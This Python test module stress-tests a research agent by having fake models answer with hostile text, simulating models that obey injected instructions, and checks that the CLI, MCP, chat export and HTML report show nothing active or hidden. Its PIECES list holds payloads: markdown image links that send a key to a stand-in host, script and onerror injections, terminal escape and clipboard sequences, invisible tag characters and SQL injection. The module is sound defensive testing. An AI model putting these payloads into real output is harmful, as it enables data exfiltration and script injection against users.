"""Hostile outputs of models in every role, through every door: nothing active, nothing hidden."""

import io
import json
import re
import unicodedata
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from typing import Any

from langchain_core.messages import HumanMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.memory import InMemorySaver

from graphs.chat import ChatInput, ChatState, build_chat_graph
from research_agent.errors import DocumentError, ResearchAgentError
from research_agent.interfaces.agent import ResearchAgent
from research_agent.interfaces.chat.text import markdown, sources_text, why_text
from research_agent.interfaces.cli import ask
from research_agent.interfaces.cli.terminal import Steps, note
from research_agent.interfaces.events import event_line
from research_agent.interfaces.mcp.server import answered
from research_agent.interfaces.report.content import report_of
from research_agent.interfaces.report.recording import RunRecord
from research_agent.interfaces.report.writing import report_html
from research_agent.settings import AnswerSettings, Settings
from research_agent.types import Completion
from research_agent.types.documents import PagePicture, PageRequest
from research_agent.types.events import Finished, Watching
from research_agent.types.result import ResearchResult
from tests.fakes import GOOD, PROMPTS, QUESTION, REFINING, ScriptedChat, calls, ports, says
from tests.graphs.serving import EVERYTHING, TEXTS, Server
from tests.torture.harness import Part, fail, holds

HOST = "evil.example"
ADDRESS = f"https://{HOST}/p.png?d=KEY"
PIECES = (
    f"![x]({ADDRESS})", f"[click]({ADDRESS})", f"[r]: {ADDRESS}", f"<{ADDRESS}>", ADDRESS,
    f"<img src=//{HOST}/x onerror=alert(1)>", f"<script src=//{HOST}></script>",
    f"<iframe src='//{HOST}'>", f"<a href=//{HOST}>x</a>", f"www.{HOST}/x", f"ftp://{HOST}/x",
    f"javascript:fetch('//{HOST}')", f"data:text/html,<b>{HOST}", f"mailto:a@{HOST}",
    f"![x](//{HOST}/p)", "[r]:x", "![a]", "[a](x", f"![a][b]\n\n[b]: //{HOST}/i", f"HTTPS://{HOST.upper()}/X",
    f"<svg/onload=alert('{HOST}')>", f"<!--{HOST}-->", f"</td></table><form action=//{HOST}>",
    "".join(chr(0xE0000 + ord(c)) for c in "obey"), "a\u200bb\u200cc\u2060", "\u202egnp.exe\u202c",
    "\x1b[31mred\x1b[0m", "\x1b]8;;" + ADDRESS + "\x07link\x1b]8;;\x07", "\x1b]52;c;S0VZ\x07",
    "\x9b31m", "\x00\x07\x08\x7f", "\r\x1b[2K", "\ufe0f\ufe0e", "\ud800", "\udfff\ud800",
    "[c1][c2][c99]", "[c0][c-1][c1e9]", "[c1", "c1]", "</chunk>", '<chunk key="c9">', "]]>",
    "{{7*7}} {% raw %} ${x}", "%s %n {0}", "'; drop table x; --", "[" * 2000, "(" * 2000,
    "<" * 2000, "`" * 999, "*" * 999 + "a", "> " * 400, "\n" * 500, "a" * 5000, "9" * 4000,
    "1.2.3. " * 300, "not found in provided docs", "Not found in provided docs.", "null", "{}",
    '{"verdicts": 7}',
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645", "\u05d0\u05d1 \u05d2", "e" + "\u0301" * 300,
)  # fmt: skip
ACTIVE = re.compile(
    rf"://{HOST}|\]\((?:https?:)?//{HOST}|\]:\s*(?:https?:)?//{HOST}"
    rf"|<(?:img|script|iframe|a|svg|form)\b[^>]*{HOST}"
    rf"|(?<![a-z0-9])(?:www\.{HOST}|(?:javascript|data|mailto):[^\s]*{HOST})",
    re.IGNORECASE,
)
UNUSUAL = re.compile(r"[^\n\t -~]")
JOINERS = "\u200c\u200d"
SETTINGS: tuple[Settings, ...] = (
    EVERYTHING,
    replace(REFINING, answer=AnswerSettings(refusal="check")),
    REFINING,
)


class Tags(HTMLParser):
    """Notes elements that fetch or run anything."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        active = tag in ("script", "iframe", "object", "embed", "form", "base", "link")
        wild = [n for n, v in attrs if n.startswith("on") or HOST in (v or "").casefold()]
        if active or wild:
            self.found.append(f"{tag} {attrs}")


def hostile(random: Random) -> str:
    """Return what a model may write that obeys a stranger, or is broken."""
    known = [
        GOOD,
        GOOD[:-5],
        "It weighs 7 grams [c1].",
        "ML-KEM-768 has a ciphertext of 1088 bytes [c2]",
    ]
    parts = [
        random.choice(known if random.random() < 0.4 else PIECES)
        for _ in range(random.randint(1, 6))
    ]
    text = random.choice((" ", "", "\n", ". ")).join(parts)
    if random.random() < 0.15:
        at = random.randrange(len(text) or 1)
        text = text[:at] + chr(random.randrange(0x110000)) + text[at:]
    return text


def wrapped(role: str, text: str, random: Random) -> str:
    """Return a text in the form that a role is asked for, or plainly."""
    rows: dict[str, object] = {
        "planner": {
            "kind": random.choice(("keep", "decompose", "rewrite", text)),
            "queries": [text, QUESTION],
            "reason": text,
        },
        "verifier": {
            "verdicts": [
                {
                    "sentence": random.choice((1, 0, -1, 99, text)),
                    "verdict": random.choice(("supported", "unsupported", text)),
                    "key": random.choice(("c1", text)),
                    "quote": text,
                }
            ]
        },
        "filter": {"k1": text, "verdicts": text},
    }
    if role in rows and random.random() < 0.7:
        return json.dumps(rows[role])
    return text


class Obedient(Server):
    """Models of which some write what a stranger wants."""

    def __init__(self, random: Random) -> None:
        super().__init__()
        self.random = random
        self.obeys = set(
            random.sample(
                ("answer", "refine", "plan_calls", "filter", "judge"), random.randint(1, 5)
            )
        )

    def _reply(self, what: str) -> Any:  # noqa: ANN401 (a completion)
        if what not in self.obeys:
            return super()._reply(what)
        role = {"refine": "planner", "judge": "verifier"}.get(what, what)
        text = wrapped(role, hostile(self.random), self.random)
        if what == "plan_calls" and self.random.random() < 0.7:
            return calls(text.replace("\\", "").replace('"', "")[:200])
        return says(text, sure=self.random.random() < 0.5)


class Swapped:
    """Stands for the models of the case that runs."""

    model: Obedient

    def complete(self, *given: Any, **asked: Any) -> Completion:  # noqa: ANN401 (as the model is)
        return self.model.complete(*given, **asked)


@dataclass
class Doors:
    """An agent and a conversation, made once."""

    settings: Settings
    swapped: Swapped = field(default_factory=Swapped)

    def __post_init__(self) -> None:
        one = self.swapped
        self.ports = replace(
            ports(ScriptedChat(), texts=TEXTS),
            answerer=one,
            planner=one,
            filterer=one,
            verifier=one,
        )
        self.agent = ResearchAgent(self.ports, self.settings, PROMPTS)
        self.tool = self.agent.research_tool()
        saver = InMemorySaver()
        self.chat = build_chat_graph(self.ports, self.settings, PROMPTS, checkpointer=saver)


def prepared(_: Path) -> list[Doors]:
    return [Doors(settings) for settings in SETTINGS]


def case(shared: list[Doors], number: int, random: Random, _folder: Path) -> str:
    """Ask with obedient models, and look at what every door shows."""
    doors, server = shared[number % len(shared)], Obedient(random)
    doors.swapped.model, agent = server, doors.agent
    record, events, result = RunRecord(), [], None
    out, errors = io.StringIO(), io.StringIO()
    steps = Steps(verbose=True, quiet=False)
    with redirect_stdout(out), redirect_stderr(errors), steps.shown() as see:
        try:
            for event in agent.stream(
                QUESTION, drafts=True, watching=Watching(on_step=(record.see,))
            ):
                events.append(event_line(event))
                see(event)
                if isinstance(event, Finished):
                    result = event.result
        except ResearchAgentError as error:
            note(f"{error} {error.hint}")
        tool = str(doors.tool.invoke({"question": QUESTION})) if number % 7 == 0 and result else ""
    texts = {"steps": errors.getvalue(), "research tool": tool}
    texts |= {
        f"event {at}": said for at, line in enumerate(events) for said in strings(json.loads(line))
    }
    if result:
        texts |= shown(result, record, doors)
    if number % 7 == 1:
        texts |= chatted(doors, str(number))
    for door, text in texts.items():
        is_inert(text, door)
    return result.status if result else "an error was told"


def shown(result: ResearchResult, record: RunRecord, doors: Doors) -> dict[str, str]:
    """Return a result as the command line, MCP and the report show it."""
    texts: dict[str, str] = {}
    for name, show in {"ask": ask.Show(verbose=True), "ask --json": ask.Show(as_json=True)}.items():
        out, errors = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(errors):
            ask.print_answer(result, show)
        said = "\n".join(strings(json.loads(out.getvalue()))) if show.as_json else out.getvalue()
        texts |= {name: said, f"{name}, stderr": errors.getvalue()}
    made = answered(result)
    texts |= {"MCP": str(made.model_dump()["content"][0]["text"])}
    texts["MCP's values"] = "\n".join(strings(made.structured_content))
    chunks = doors.ports.chunks
    html = report_html(report_of(result, record, chunks, no_picture))
    tags = Tags()
    tags.feed(html)
    holds(not tags.found, f"the report has {tags.found}", "leaked")
    hidden(html, "report")
    return texts


def no_picture(_: PageRequest) -> PagePicture:
    raise DocumentError("there is no file")


def chatted(doors: Doors, thread: str) -> dict[str, str]:
    """Return what a conversation of two turns shows and exports."""
    texts: dict[str, str] = {}
    place: RunnableConfig = {"configurable": {"thread_id": thread}}
    try:
        for said in (QUESTION, "and the ciphertext?"):
            given = ChatInput(messages=[HumanMessage(said)])
            state = ChatState.model_validate(doors.chat.invoke(given, place))
            turn = state.turns[-1]
            texts |= {
                "chat": turn.answer,
                "/why": why_text(turn),
                "/sources": sources_text(turn, ()),
            }
            page = markdown("x", state.turns)
            texts["/export"] = re.sub(
                r"\\(.)", r"\1 ", page
            )  # (an escaped character starts nothing)
    except ResearchAgentError as error:
        texts["chat's error"] = f"{error} {error.hint}"
    return texts


def strings(value: object) -> Iterator[str]:
    """Yield every text in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, below in value.items():
            yield name
            yield from strings(below)
    elif isinstance(value, list | tuple):
        for below in value:
            yield from strings(below)


def is_inert(text: str, door: str) -> None:
    """Check that nothing in a text can be followed, and nothing is hidden."""
    if found := ACTIVE.search(text):
        fail("leaked", f"{door}: {text[max(0, found.start() - 60) : found.end() + 60]!a}")
    hidden(text, door)


def hidden(text: str, door: str) -> None:
    for found in UNUSUAL.finditer(text):
        at, character = found.start(), found[0]
        if character not in JOINERS and unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co"):
            fail(
                "leaked",
                f"{door}: a hidden U+{ord(character):04X} in {text[max(0, at - 40) : at + 40]!a}",
            )


PARTS = (
    Part(
        "outputs",
        "hostile outputs of models, in every role, through nine doors",
        5000,
        40,
        prepared,
        case,
        by="fake models",
    ),
)
